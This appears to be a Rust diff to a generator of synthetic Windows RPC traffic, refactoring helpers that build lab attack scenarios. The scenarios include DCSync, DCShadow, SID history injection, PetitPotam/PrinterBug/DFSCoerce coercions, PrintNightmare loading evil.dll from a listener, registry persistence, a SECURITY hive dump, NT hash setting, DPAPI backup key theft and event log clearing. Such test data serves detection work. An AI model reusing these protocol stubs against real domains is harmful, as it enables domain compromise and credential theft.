@@ -215,17 +215,30 @@ fn dsname(w: &mut Buf, dn: &str, guid: Option<&str>) {
     w.u16(0);
 }
 
-fn status(le: bool, s: u32) -> Vec<u8> {
-    let mut w = Buf::new(le);
-    w.u32(s);
-    w.b
+/// The TCP handshake of connection `c`, `waits[0]` µs, a bind of `iface` answered after
+/// `waits[1]` µs (association group `assoc`, the server port as secondary address),
+/// `waits[2]` µs.
+fn handshake_bind(w: &mut World, c: usize, iface: &'static Iface, assoc: u32, waits: [u64; 3]) {
+    w.handshake(c);
+    w.wait(waits[0]);
+    let port = w.conns[c].h[S].port.to_string();
+    w.bind_tcp(c, iface, 5840, waits[1], assoc, &port);
+    w.wait(waits[2]);
 }
 
-fn handle_status(le: bool, h: &[u8; 20], s: u32) -> Vec<u8> {
-    let mut w = Buf::new(le);
-    w.bytes(h);
-    w.u32(s);
-    w.b
+/// A stub that starts with context handle `h`.
+fn with_handle(le: bool, h: &[u8; 20]) -> Buf {
+    let mut s = Buf::new(le);
+    s.bytes(h);
+    s
+}
+
+/// A call on pipe `fid` that opens something: the server answers `rtt` µs later with a
+/// fresh context handle and success. Returns the handle.
+fn open_call(w: &mut World, c: usize, fid: &[u8; 16], r: Req, rtt: u64) -> [u8; 20] {
+    let h = w.rng.handle();
+    w.call_transceive(c, fid, r, rtt, &st_handle_status(true, &h, 0));
+    h
 }
 
 // ---------------------------------------------------------------------------
@@ -244,8 +257,7 @@ fn st_get_nc_changes(
     nc: (&str, Option<&str>),
     exop: u32,
 ) -> Vec<u8> {
-    let mut w = Buf::new(le);
-    w.bytes(h);
+    let mut w = with_handle(le, h);
     w.u32(v);
     w.u32(v);
     align8(&mut w);
@@ -306,10 +318,7 @@ fn a1_dcsync_workstation() -> World {
     let mut w = World::new(21);
     let le = true;
     let c = w.conn((WS, 50501), (DC1, 49667), 0x2100_0001, 0x2100_1001, le);
-    w.handshake(c);
-    w.wait(600);
-    w.bind_tcp(c, &DRSUAPI, 5840, 420, 0x0001_a101, "49667");
-    w.wait(500);
+    handshake_bind(&mut w, c, &DRSUAPI, 0x0001_a101, [600, 420, 500]);
     let h = drs_bind(&mut w, c, 2);
     // DRSDomainControllerInfo and DRSCrackNames: context calls (opaque here).
     let stub = w.rng.bytes(40);
@@ -337,11 +346,8 @@ fn a2_dc_replication() -> World {
     let le = true;
     let a = w.conn((DC2, 50601), (DC1, 49667), 0x2200_0001, 0x2200_1001, le);
     let b = w.conn((DC1, 50602), (DC2, 49668), 0x2200_2001, 0x2200_3001, le);
-    for (c, port, assoc) in [(a, "49667", 0x0002_a101), (b, "49668", 0x0002_a102)] {
-        w.handshake(c);
-        w.wait(500);
-        w.bind_tcp(c, &DRSUAPI, 5840, 380, assoc, port);
-        w.wait(400);
+    for (c, assoc) in [(a, 0x0002_a101), (b, 0x0002_a102)] {
+        handshake_bind(&mut w, c, &DRSUAPI, assoc, [500, 380, 400]);
     }
     let ha = drs_bind(&mut w, a, 2);
     let hb = drs_bind(&mut w, b, 2);
@@ -377,8 +383,7 @@ fn st_add_entry(le: bool, h: &[u8; 20], server_dn: &str, ntds_dn: &str) -> Vec<u
         w.u32(val.len() as u32);
         w.bytes(val);
     };
-    let mut w = Buf::new(le);
-    w.bytes(h);
+    let mut w = with_handle(le, h);
     w.u32(2);
     w.u32(2);
     // Head node: pNextEntInf, pName, ulFlags, attrCount, pAttr.
@@ -403,8 +408,7 @@ fn st_add_entry(le: bool, h: &[u8; 20], server_dn: &str, ntds_dn: &str) -> Vec<u
 
 /// DRSReplicaAdd V1: pNC, pszDsaSrc, rtSchedule, ulOptions.
 fn st_replica_add(le: bool, h: &[u8; 20], nc: &str, src: &str) -> Vec<u8> {
-    let mut w = Buf::new(le);
-    w.bytes(h);
+    let mut w = with_handle(le, h);
     w.u32(1);
     w.u32(1);
     ptr(&mut w);
@@ -427,24 +431,18 @@ fn a3_dcshadow() -> World {
     let server = format!("CN=ROGUE,CN=Servers,{site}");
     let ntds = format!("CN=NTDS Settings,{server}");
     let c = w.conn((ROGUE, 50701), (DC1, 49667), 0x2300_0001, 0x2300_1001, le);
-    w.handshake(c);
-    w.wait(500);
-    w.bind_tcp(c, &DRSUAPI, 5840, 400, 0x0003_a101, "49667");
-    w.wait(400);
+    handshake_bind(&mut w, c, &DRSUAPI, 0x0003_a101, [500, 400, 400]);
     let h = drs_bind(&mut w, c, 2);
     let stub = st_add_entry(le, &h, &server, &ntds);
     let reply = w.rng.bytes(64);
     w.call(c, Req::new(3, 17, &stub), 9_000, &reply);
     w.wait(600);
     let stub = st_replica_add(le, &h, DOMAIN_NC, "rogue.lab.local");
-    w.call(c, Req::new(4, 5, &stub), 4_000, &status(le, 0));
+    w.call(c, Req::new(4, 5, &stub), 4_000, &st_status(le, 0));
     w.wait(2_000);
     // DC1 pulls from the rogue DC.
     let b = w.conn((DC1, 50702), (ROGUE, 49669), 0x2300_2001, 0x2300_3001, le);
-    w.handshake(b);
-    w.wait(400);
-    w.bind_tcp(b, &DRSUAPI, 5840, 350, 0x0003_a102, "49669");
-    w.wait(300);
+    handshake_bind(&mut w, b, &DRSUAPI, 0x0003_a102, [400, 350, 300]);
     let hb = drs_bind(&mut w, b, 2);
     let stub = st_get_nc_changes(
         le,
@@ -472,8 +470,7 @@ fn st_add_sid_history(le: bool, h: &[u8; 20]) -> Vec<u8> {
             w.u16(u);
         }
     };
-    let mut w = Buf::new(le);
-    w.bytes(h);
+    let mut w = with_handle(le, h);
     w.u32(1);
     w.u32(1);
     w.u32(0); // Flags
@@ -503,10 +500,7 @@ fn a4_sid_history() -> World {
     let mut w = World::new(24);
     let le = true;
     let c = w.conn((WS, 50801), (DC1, 49667), 0x2400_0001, 0x2400_1001, le);
-    w.handshake(c);
-    w.wait(500);
-    w.bind_tcp(c, &DRSUAPI, 5840, 380, 0x0004_a101, "49667");
-    w.wait(400);
+    handshake_bind(&mut w, c, &DRSUAPI, 0x0004_a101, [500, 380, 400]);
     let h = drs_bind(&mut w, c, 2);
     let stub = st_add_sid_history(le, &h);
     let reply = w.rng.bytes(12);
@@ -541,6 +535,33 @@ fn pipe(w: &mut World, c: usize, name: &str, iface: &'static Iface, assoc: u32) 
     fid
 }
 
+/// RpcOpenPrinter (MS-RPRN 3.1.4.2.2): the printer `name`, no datatype, an empty
+/// DEVMODE container, `access`.
+fn st_open_printer(le: bool, name: &str, access: u32) -> Vec<u8> {
+    let mut s = Buf::new(le);
+    ptr(&mut s);
+    s.wstr(name);
+    s.u32(0); // pDatatype
+    s.u32(0); // DEVMODE_CONTAINER cbBuf
+    s.u32(0); // DEVMODE_CONTAINER pDevMode
+    s.u32(access);
+    s.b
+}
+
+/// RpcRemoteFindFirstPrinterChangeNotificationEx (MS-RPRN 3.1.4.10.4) on printer `ph`:
+/// `flags`, no options, the client `local` to call back, `printer_local`, no
+/// notification options.
+fn st_notify(le: bool, ph: &[u8; 20], flags: u32, local: &str, printer_local: u32) -> Vec<u8> {
+    let mut s = with_handle(le, ph);
+    s.u32(flags);
+    s.u32(0); // fdwOptions
+    ptr(&mut s);
+    s.wstr(local);
+    s.u32(printer_local);
+    s.u32(0); // pOptions
+    s.b
+}
+
 /// Scenario a5: every coercion against a Windows DC (PetitPotam over \pipe\lsarpc,
 /// PrinterBug, DFSCoerce, ShadowCoerce, CheeseOunce), the listener 10.20.0.99, with the
 /// answers Windows gives (EfsRpcOpenFileRaw: ERROR_BAD_NETPATH once it has tried the
@@ -555,45 +576,25 @@ fn a5_coercions() -> World {
     let mut s = Buf::new(le);
     s.wstr(&format!(r"\\{LISTENER}@80\share\file.txt"));
     s.u32(0);
-    let reply = handle_status(le, &[0; 20], 0x35);
+    let reply = st_handle_status(le, &[0; 20], 0x35);
     w.call_transceive(c, &fid, Req::new(2, 0, &s.b), 4_100, &reply);
     w.wait(500);
     w.smb_close(c, &fid);
     // PrinterBug: open the DC's print server, register a notification to the listener.
     let fid = pipe(&mut w, c, "spoolss", &SPOOLSS, 0x0005_a102);
-    let ph = w.rng.handle();
-    let mut s = Buf::new(le);
-    ptr(&mut s);
-    s.wstr(r"\\10.20.0.5");
-    s.u32(0);
-    s.u32(0);
-    s.u32(0);
-    s.u32(0x0002_0000);
+    let stub = st_open_printer(le, r"\\10.20.0.5", 0x0002_0000);
+    let ph = open_call(&mut w, c, &fid, Req::new(2, 1, &stub), 1_200);
+    w.wait(300);
+    let stub = st_notify(le, &ph, 0x0000_0100, &format!(r"\\{LISTENER}"), 0);
     w.call_transceive(
         c,
         &fid,
-        Req::new(2, 1, &s.b),
-        1_200,
-        &handle_status(le, &ph, 0),
+        Req::new(3, 65, &stub),
+        2_600,
+        &st_status(le, 0x6ba),
     );
     w.wait(300);
-    let mut s = Buf::new(le);
-    s.bytes(&ph);
-    s.u32(0x0000_0100);
-    s.u32(0);
-    ptr(&mut s);
-    s.wstr(&format!(r"\\{LISTENER}"));
-    s.u32(0);
-    s.u32(0);
-    w.call_transceive(c, &fid, Req::new(3, 65, &s.b), 2_600, &status(le, 0x6ba));
-    w.wait(300);
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(4, 29, &ph),
-        700,
-        &handle_status(le, &[0; 20], 0),
-    );
+    w.call_transceive(c, &fid, Req::new(4, 29, &ph), 700, &st_close_resp(le));
     w.smb_close(c, &fid);
     // DFSCoerce.
     let fid = pipe(&mut w, c, "netdfs", &NETDFS, 0x0005_a103);
@@ -602,7 +603,7 @@ fn a5_coercions() -> World {
     s.wstr("test");
     s.u32(0);
     s.u32(0);
-    w.call_transceive(c, &fid, Req::new(2, 12, &s.b), 3_300, &status(le, 0x35));
+    w.call_transceive(c, &fid, Req::new(2, 12, &s.b), 3_300, &st_status(le, 0x35));
     w.smb_close(c, &fid);
     // ShadowCoerce.
     let fid = pipe(&mut w, c, "FssagentRpc", &FSRVP, 0x0005_a104);
@@ -626,7 +627,7 @@ fn a5_coercions() -> World {
         &fid,
         Req::new(2, 9, &s.b),
         3_700,
-        &handle_status(le, &[0; 20], 0xc000_00be),
+        &st_handle_status(le, &[0; 20], 0xc000_00be),
     );
     w.smb_close(c, &fid);
     w.close(c);
@@ -666,7 +667,7 @@ fn a6_printnightmare() -> World {
     let store = r"C:\Windows\System32\DriverStore\FileRepository\ntprint.inf_amd64_9fcf0d2a3e4b5c6d\Amd64\UNIDRV.DLL";
     let evil = format!(r"\\{LISTENER}\share\evil.dll");
     let stub = st_add_printer_driver(le, [store, store, &evil], 0x8014);
-    w.call_transceive(c, &fid, Req::new(2, 89, &stub), 48_000, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(2, 89, &stub), 48_000, &st_status(le, 0));
     w.wait(800);
     w.smb_close(c, &fid);
     w.close(c);
@@ -681,43 +682,17 @@ fn a7_print_client() -> World {
     let le = true;
     let c = smb_session(&mut w, (WS, 51101), MEMBER, 27);
     let fid = pipe(&mut w, c, "spoolss", &SPOOLSS, 0x0007_a101);
-    let ph = w.rng.handle();
-    let mut s = Buf::new(le);
-    ptr(&mut s);
-    s.wstr(r"\\10.20.0.7\Office-Printer");
-    s.u32(0);
-    s.u32(0);
-    s.u32(0);
-    s.u32(0x0000_0008);
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(2, 1, &s.b),
-        1_100,
-        &handle_status(le, &ph, 0),
-    );
+    let stub = st_open_printer(le, r"\\10.20.0.7\Office-Printer", 0x0000_0008);
+    let ph = open_call(&mut w, c, &fid, Req::new(2, 1, &stub), 1_100);
     w.wait(300);
-    let mut s = Buf::new(le);
-    s.bytes(&ph);
-    s.u32(0x0000_00ff);
-    s.u32(0);
-    ptr(&mut s);
-    s.wstr(r"\\10.20.0.50");
-    s.u32(0x4f2c);
-    s.u32(0);
-    w.call_transceive(c, &fid, Req::new(3, 65, &s.b), 1_900, &status(le, 0));
+    let stub = st_notify(le, &ph, 0x0000_00ff, r"\\10.20.0.50", 0x4f2c);
+    w.call_transceive(c, &fid, Req::new(3, 65, &stub), 1_900, &st_status(le, 0));
     w.wait(300);
     let store = r"C:\Windows\System32\DriverStore\FileRepository\prnms003.inf_amd64_4a5b6c7d8e9f0a1b\Amd64\mxdwdrv.dll";
     let stub = st_add_printer_driver(le, [store, store, store], 0);
-    w.call_transceive(c, &fid, Req::new(4, 89, &stub), 21_000, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(4, 89, &stub), 21_000, &st_status(le, 0));
     w.wait(300);
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(5, 29, &ph),
-        600,
-        &handle_status(le, &[0; 20], 0),
-    );
+    w.call_transceive(c, &fid, Req::new(5, 29, &ph), 600, &st_close_resp(le));
     w.smb_close(c, &fid);
     w.close(c);
     w
@@ -735,8 +710,7 @@ fn st_open_hklm(le: bool) -> Vec<u8> {
 }
 
 fn st_open_key(le: bool, parent: &[u8; 20], sub: &str) -> Vec<u8> {
-    let mut s = Buf::new(le);
-    s.bytes(parent);
+    let mut s = with_handle(le, parent);
     ustring(&mut s, sub);
     s.u32(0);
     s.u32(0x0200_0000);
@@ -745,8 +719,7 @@ fn st_open_key(le: bool, parent: &[u8; 20], sub: &str) -> Vec<u8> {
 
 fn st_set_value(le: bool, key: &[u8; 20], name: &str, data: &str) -> Vec<u8> {
     let v: Vec<u8> = utf16le(data).into_iter().chain([0, 0]).collect();
-    let mut s = Buf::new(le);
-    s.bytes(key);
+    let mut s = with_handle(le, key);
     ustring(&mut s, name);
     s.u32(1); // REG_SZ
     s.u32(v.len() as u32);
@@ -764,15 +737,20 @@ fn reg_open(
     parent: &[u8; 20],
     sub: &str,
 ) -> [u8; 20] {
-    let h = w.rng.handle();
-    let stub = st_open_key(true, parent, sub);
-    w.call_transceive(
+    let h = open_call(
+        w,
         c,
         fid,
-        Req::new(id, 15, &stub),
+        Req::new(id, 15, &st_open_key(true, parent, sub)),
         700,
-        &handle_status(true, &h, 0),
     );
+    w.wait(200);
+    h
+}
+
+/// OpenLocalMachine as call 2 on pipe `fid`: the HKLM handle.
+fn reg_open_hklm(w: &mut World, c: usize, fid: &[u8; 16]) -> [u8; 20] {
+    let h = open_call(w, c, fid, Req::new(2, 2, &st_open_hklm(true)), 600);
     w.wait(200);
     h
 }
@@ -786,15 +764,7 @@ fn a8_registry_persistence_and_dump() -> World {
     let le = true;
     let c = smb_session(&mut w, (WS, 51201), MEMBER, 28);
     let fid = pipe(&mut w, c, "winreg", &WINREG, 0x0008_a101);
-    let hklm = w.rng.handle();
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(2, 2, &st_open_hklm(le)),
-        600,
-        &handle_status(le, &hklm, 0),
-    );
-    w.wait(200);
+    let hklm = reg_open_hklm(&mut w, c, &fid);
     let run = reg_open(
         &mut w,
         c,
@@ -804,7 +774,7 @@ fn a8_registry_persistence_and_dump() -> World {
         r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
     );
     let stub = st_set_value(le, &run, "OneDriveUpdater", r"C:\Users\Public\odu.exe");
-    w.call_transceive(c, &fid, Req::new(4, 22, &stub), 900, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(4, 22, &stub), 900, &st_status(le, 0));
     w.wait(200);
     let wl = reg_open(
         &mut w,
@@ -820,7 +790,7 @@ fn a8_registry_persistence_and_dump() -> World {
         "Userinit",
         r"C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe",
     );
-    w.call_transceive(c, &fid, Req::new(6, 22, &stub), 900, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(6, 22, &stub), 900, &st_status(le, 0));
     w.wait(200);
     let jd = reg_open(
         &mut w,
@@ -830,18 +800,16 @@ fn a8_registry_persistence_and_dump() -> World {
         &hklm,
         r"SYSTEM\CurrentControlSet\Control\Lsa\JD",
     );
-    let mut s = Buf::new(le);
-    s.bytes(&jd);
+    let mut s = with_handle(le, &jd);
     ustring(&mut s, "");
     let reply = w.rng.bytes(60);
     w.call_transceive(c, &fid, Req::new(8, 16, &s.b), 500, &reply);
     w.wait(200);
     let sec = reg_open(&mut w, c, &fid, 9, &hklm, "SECURITY");
-    let mut s = Buf::new(le);
-    s.bytes(&sec);
+    let mut s = with_handle(le, &sec);
     ustring(&mut s, r"..\Temp\KqZtPwXe.tmp");
     s.u32(0);
-    w.call_transceive(c, &fid, Req::new(10, 20, &s.b), 14_000, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(10, 20, &s.b), 14_000, &st_status(le, 0));
     w.smb_close(c, &fid);
     w.close(c);
     w
@@ -853,15 +821,7 @@ fn a9_registry_read() -> World {
     let le = true;
     let c = smb_session(&mut w, (WS, 51301), MEMBER, 29);
     let fid = pipe(&mut w, c, "winreg", &WINREG, 0x0009_a101);
-    let hklm = w.rng.handle();
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(2, 2, &st_open_hklm(le)),
-        600,
-        &handle_status(le, &hklm, 0),
-    );
-    w.wait(200);
+    let hklm = reg_open_hklm(&mut w, c, &fid);
     let k = reg_open(
         &mut w,
         c,
@@ -870,8 +830,7 @@ fn a9_registry_read() -> World {
         &hklm,
         r"SOFTWARE\Microsoft\Windows NT\CurrentVersion",
     );
-    let mut s = Buf::new(le);
-    s.bytes(&k);
+    let mut s = with_handle(le, &k);
     ustring(&mut s, "ProductName");
     s.u32(0);
     s.u32(0);
@@ -887,6 +846,15 @@ fn a9_registry_read() -> World {
 // ---------------------------------------------------------------------------
 // accounts, secrets, event logs (MS-SAMR, MS-LSAD, MS-EVEN, MS-EVEN6)
 
+/// SamrOpenAlias / SamrOpenUser (MS-SAMR 3.1.5.1.7, 3.1.5.1.9) in `domain`: `access`,
+/// the RID.
+fn st_samr_open(le: bool, domain: &[u8; 20], access: u32, rid: u32) -> Vec<u8> {
+    let mut s = with_handle(le, domain);
+    s.u32(access);
+    s.u32(rid);
+    s.b
+}
+
 /// Scenario a10: account manipulation against DC1 over \pipe\samr and \pipe\lsarpc: a
 /// machine account created (RBCD/noPac preparation), a member added to Administrators
 /// (alias 544), an NT hash set directly (SamrSetInformationUser2 class 18), the DPAPI
@@ -897,63 +865,38 @@ fn a10_accounts_and_secrets() -> World {
     let c = smb_session(&mut w, (WS, 51401), DC1, 30);
     let fid = pipe(&mut w, c, "samr", &SAMR, 0x000a_a101);
     let dom = w.rng.handle();
-    let mut s = Buf::new(le);
-    s.bytes(&dom);
+    let mut s = with_handle(le, &dom);
     ustring(&mut s, "EVILPC$");
     s.u32(0x80);
     s.u32(0x000f_07ff);
     let uh = w.rng.handle();
-    let mut r = Buf::new(le);
-    r.bytes(&uh);
+    let mut r = with_handle(le, &uh);
     r.u32(0x000f_07ff);
     r.u32(1112);
     r.u32(0);
     w.call_transceive(c, &fid, Req::new(2, 50, &s.b), 6_000, &r.b);
     w.wait(300);
-    let alias = w.rng.handle();
-    let mut s = Buf::new(le);
-    s.bytes(&dom);
-    s.u32(0x0000_0004);
-    s.u32(544);
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(3, 27, &s.b),
-        700,
-        &handle_status(le, &alias, 0),
-    );
+    let stub = st_samr_open(le, &dom, 0x0000_0004, 544);
+    let alias = open_call(&mut w, c, &fid, Req::new(3, 27, &stub), 700);
     w.wait(200);
-    let mut s = Buf::new(le);
-    s.bytes(&alias);
+    let mut s = with_handle(le, &alias);
     sid(&mut s, "S-1-5-21-1111111111-2222222222-3333333333-1105");
-    w.call_transceive(c, &fid, Req::new(4, 31, &s.b), 1_400, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(4, 31, &s.b), 1_400, &st_status(le, 0));
     w.wait(200);
-    let user = w.rng.handle();
-    let mut s = Buf::new(le);
-    s.bytes(&dom);
-    s.u32(0x000f_07ff);
-    s.u32(500);
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(5, 34, &s.b),
-        700,
-        &handle_status(le, &user, 0),
-    );
+    let stub = st_samr_open(le, &dom, 0x000f_07ff, 500);
+    let user = open_call(&mut w, c, &fid, Req::new(5, 34, &stub), 700);
     w.wait(200);
-    let mut s = Buf::new(le);
-    s.bytes(&user);
+    let mut s = with_handle(le, &user);
     s.u16(18);
     s.u16(18);
     let hashes = w.rng.bytes(32);
     s.bytes(&hashes);
     s.bytes(&[1, 0, 0]);
-    w.call_transceive(c, &fid, Req::new(6, 58, &s.b), 2_200, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(6, 58, &s.b), 2_200, &st_status(le, 0));
     w.smb_close(c, &fid);
     let fid = pipe(&mut w, c, "lsarpc", &LSARPC, 0x000a_a102);
     let pol = w.rng.handle();
-    let mut s = Buf::new(le);
-    s.bytes(&pol);
+    let mut s = with_handle(le, &pol);
     ustring(&mut s, "G$BCKUPKEY_PREFERRED");
     s.u32(0);
     let reply = {
@@ -966,8 +909,7 @@ fn a10_accounts_and_secrets() -> World {
     };
     w.call_transceive(c, &fid, Req::new(2, 43, &s.b), 1_300, &reply);
     w.wait(200);
-    let mut s = Buf::new(le);
-    s.bytes(&pol);
+    let mut s = with_handle(le, &pol);
     sid(&mut s, "S-1-5-21-1111111111-2222222222-3333333333-1105");
     s.u32(1);
     ptr(&mut s);
@@ -981,7 +923,7 @@ fn a10_accounts_and_secrets() -> World {
     for u in "SeDebugPrivilege".encode_utf16() {
         s.u16(u);
     }
-    w.call_transceive(c, &fid, Req::new(3, 37, &s.b), 1_100, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(3, 37, &s.b), 1_100, &st_status(le, 0));
     w.smb_close(c, &fid);
     w.close(c);
     w
@@ -995,7 +937,6 @@ fn a11_event_logs() -> World {
     let le = true;
     let c = smb_session(&mut w, (WS, 51501), DC1, 31);
     let fid = pipe(&mut w, c, "eventlog", &EVENTLOG, 0x000b_a101);
-    let lh = w.rng.handle();
     let mut s = Buf::new(le);
     ptr(&mut s);
     s.u16(0x005c);
@@ -1003,30 +944,19 @@ fn a11_event_logs() -> World {
     ustring(&mut s, "");
     s.u32(1);
     s.u32(1);
-    w.call_transceive(
-        c,
-        &fid,
-        Req::new(2, 7, &s.b),
-        800,
-        &handle_status(le, &lh, 0),
-    );
+    let lh = open_call(&mut w, c, &fid, Req::new(2, 7, &s.b), 800);
     w.wait(200);
-    let mut s = Buf::new(le);
-    s.bytes(&lh);
+    let mut s = with_handle(le, &lh);
     s.u32(0);
-    w.call_transceive(c, &fid, Req::new(3, 0, &s.b), 9_500, &status(le, 0));
+    w.call_transceive(c, &fid, Req::new(3, 0, &s.b), 9_500, &st_status(le, 0));
     w.smb_close(c, &fid);
     w.close(c);
     w.wait(1_000);
     let t = w.conn((WS, 51502), (DC1, 49670), 0x3b00_0001, 0x3b00_1001, le);
-    w.handshake(t);
-    w.wait(400);
-    w.bind_tcp(t, &EVEN6, 5840, 300, 0x000b_a102, "49670");
-    w.wait(300);
+    handshake_bind(&mut w, t, &EVEN6, 0x000b_a102, [400, 300, 300]);
     let ctl = w.rng.handle();
     let channel = "Microsoft-Windows-Sysmon/Operational";
-    let mut s = Buf::new(le);
-    s.bytes(&ctl);
+    let mut s = with_handle(le, &ctl);
     s.wstr(channel);
     s.u32(0);
     s.u32(0);
@@ -1084,55 +1014,61 @@ fn activation_objref(clsid: &str, iid: &str) -> Vec<u8> {
     inst.uuid(iid);
     let inst = serialized(&inst.b);
     let special = serialized(&[0u8; 48]);
+    let blob = activation_blob([
+        ("000001b9-0000-0000-c000-000000000046", &special), // SpecialSystemProperties
+        ("000001ab-0000-0000-c000-000000000046", &inst),    // InstantiationInfoData
+    ]);
+    objref_custom(
+        "000001a2-0000-0000-c000-000000000046", // IActivationPropertiesIn
+        "00000338-0000-0000-c000-000000000046", // CLSID_ActivationPropertiesIn
+        &blob,
+    )
+}
+
+/// An activation properties BLOB (MS-DCOM 2.2.22) of two serialized properties, each
+/// given with its class: the BLOB's size, the CustomHeader (destination context 2,
+/// the classes and sizes), the properties.
+fn activation_blob(props: [(&str, &[u8]); 2]) -> Vec<u8> {
     let mut hdr = Buf::new(true);
-    hdr.u32(0);
+    hdr.u32(0); // totalSize, patched below
     hdr.u32(0); // headerSize, patched below
     hdr.u32(0);
-    hdr.u32(2);
-    hdr.u32(2);
+    hdr.u32(2); // destCtx
+    hdr.u32(2); // cIfs
     hdr.bytes(&[0; 16]);
     ptr(&mut hdr);
     ptr(&mut hdr);
     hdr.u32(0);
     hdr.u32(2);
-    hdr.uuid("000001b9-0000-0000-c000-000000000046");
-    hdr.uuid("000001ab-0000-0000-c000-000000000046");
+    for (clsid, _) in props {
+        hdr.uuid(clsid);
+    }
     hdr.u32(2);
-    hdr.u32(special.len() as u32);
-    hdr.u32(inst.len() as u32);
+    for (_, body) in props {
+        hdr.u32(body.len() as u32);
+    }
     let mut h = serialized(&hdr.b);
     let hl = h.len() as u32;
     h[20..24].copy_from_slice(&hl.to_le_bytes());
-    let total = (h.len() + special.len() + inst.len()) as u32;
+    let total = (h.len() + props[0].1.len() + props[1].1.len()) as u32;
     h[16..20].copy_from_slice(&total.to_le_bytes());
     let mut blob = Vec::new();
     blob.extend_from_slice(&total.to_le_bytes());
     blob.extend_from_slice(&[0; 4]);
     blob.extend_from_slice(&h);
-    blob.extend_from_slice(&special);
-    blob.extend_from_slice(&inst);
-    let mut o = Vec::new();
-    o.extend_from_slice(b"MEOW");
-    o.extend_from_slice(&4u32.to_le_bytes());
-    o.extend_from_slice(&uuid_le(&parse_uuid(
-        "000001a2-0000-0000-c000-000000000046",
-    )));
-    o.extend_from_slice(&uuid_le(&parse_uuid(
-        "00000338-0000-0000-c000-000000000046",
-    )));
-    o.extend_from_slice(&0u32.to_le_bytes());
-    o.extend_from_slice(&(blob.len() as u32).to_le_bytes());
-    o.extend_from_slice(&blob);
-    o
+    for (_, body) in props {
+        blob.extend_from_slice(body);
+    }
+    blob
 }
 
-fn orpcthis(w: &mut Buf, cid: &str) {
-    w.u16(5);
-    w.u16(7);
-    w.u32(0);
-    w.u32(0);
-    w.uuid(cid);
-    w.u32(0);
+/// A non-null `[unique] MInterfacePointer*`: referent id, MaximumCount, ulCntData, the
+/// OBJREF.
+fn iface_ptr(w: &mut Buf, objref: &[u8]) {
+    ptr(w);
+    w.u32(objref.len() as u32);
+    w.u32(objref.len() as u32);
+    w.bytes(objref);
 }
 
 fn st_get_ids_of_names(names: &[&str]) -> Vec<u8> {
@@ -1193,10 +1129,7 @@ fn create_instance_response(iid: &str, ipid: &str, rem_unknown: &str, binding: &
     props.u32(1);
     props.u32(0); // S_OK
     props.u32(1);
-    ptr(&mut props);
-    props.u32(intf.len() as u32);
-    props.u32(intf.len() as u32);
-    props.bytes(&intf);
+    iface_ptr(&mut props, &intf);
     let props = serialized(&props.b);
     let mut reply = Buf::new(true);
     reply.u32(0); // pdwReserved
@@ -1218,48 +1151,18 @@ fn create_instance_response(iid: &str, ipid: &str, rem_unknown: &str, binding: &
         reply.u16(u);
     }
     let reply = serialized(&reply.b);
-    let mut hdr = Buf::new(true);
-    hdr.u32(0);
-    hdr.u32(0); // headerSize, patched below
-    hdr.u32(0);
-    hdr.u32(2); // destCtx
-    hdr.u32(2); // cIfs
-    hdr.bytes(&[0; 16]);
-    ptr(&mut hdr);
-    ptr(&mut hdr);
-    hdr.u32(0);
-    hdr.u32(2);
-    hdr.uuid("00000339-0000-0000-c000-000000000046"); // PropsOutInfo
-    hdr.uuid("000001b6-0000-0000-c000-000000000046"); // ScmReplyInfoData
-    hdr.u32(2);
-    hdr.u32(props.len() as u32);
-    hdr.u32(reply.len() as u32);
-    let mut h = serialized(&hdr.b);
-    let hl = h.len() as u32;
-    h[20..24].copy_from_slice(&hl.to_le_bytes());
-    let total = (h.len() + props.len() + reply.len()) as u32;
-    h[16..20].copy_from_slice(&total.to_le_bytes());
-    let mut blob = Vec::new();
-    blob.extend_from_slice(&total.to_le_bytes());
-    blob.extend_from_slice(&[0; 4]);
-    blob.extend_from_slice(&h);
-    blob.extend_from_slice(&props);
-    blob.extend_from_slice(&reply);
-    let mut o = Buf::new(true);
-    o.bytes(b"MEOW");
-    o.u32(4); // OBJREF_CUSTOM
-    o.uuid("000001a3-0000-0000-c000-000000000046"); // IActivationPropertiesOut
-    o.uuid("00000339-0000-0000-c000-000000000046"); // CLSID_ActivationPropertiesOut
-    o.u32(0);
-    o.u32(blob.len() as u32);
-    o.bytes(&blob);
+    let blob = activation_blob([
+        ("00000339-0000-0000-c000-000000000046", &props), // PropsOutInfo
+        ("000001b6-0000-0000-c000-000000000046", &reply), // ScmReplyInfoData
+    ]);
+    let o = objref_custom(
+        "000001a3-0000-0000-c000-000000000046", // IActivationPropertiesOut
+        "00000339-0000-0000-c000-000000000046", // CLSID_ActivationPropertiesOut
+        &blob,
+    );
     let mut r = Buf::new(true);
-    r.u32(0); // ORPCTHAT flags
-    r.u32(0); // no extensions
-    ptr(&mut r);
-    r.u32(o.b.len() as u32);
-    r.u32(o.b.len() as u32);
-    r.bytes(&o.b);
+    orpcthat(&mut r);
+    iface_ptr(&mut r, &o);
     r.align(4);
     r.u32(0); // S_OK
     r.b
@@ -1271,8 +1174,7 @@ fn create_instance_response(iid: &str, ipid: &str, rem_unknown: &str, binding: &
 fn invoke_returns_object(iid: &str, ipid: &str, binding: &str) -> Vec<u8> {
     let objref = std_objref(iid, ipid, 0x7d1c_2a3b_4c5d_6e7f, binding);
     let mut r = Buf::new(true);
-    r.u32(0);
-    r.u32(0);
+    orpcthat(&mut r);
     ptr(&mut r); // pVarResult
     align8(&mut r);
     r.u32((objref.len() as u32 + 40) / 8); // clSize
@@ -1282,10 +1184,7 @@ fn invoke_returns_object(iid: &str, ipid: &str, binding: &str) -> Vec<u8> {
     r.u16(0);
     r.u16(0);
     r.u32(9); // union arm
-    ptr(&mut r);
-    r.u32(objref.len() as u32);
-    r.u32(objref.len() as u32);
-    r.bytes(&objref);
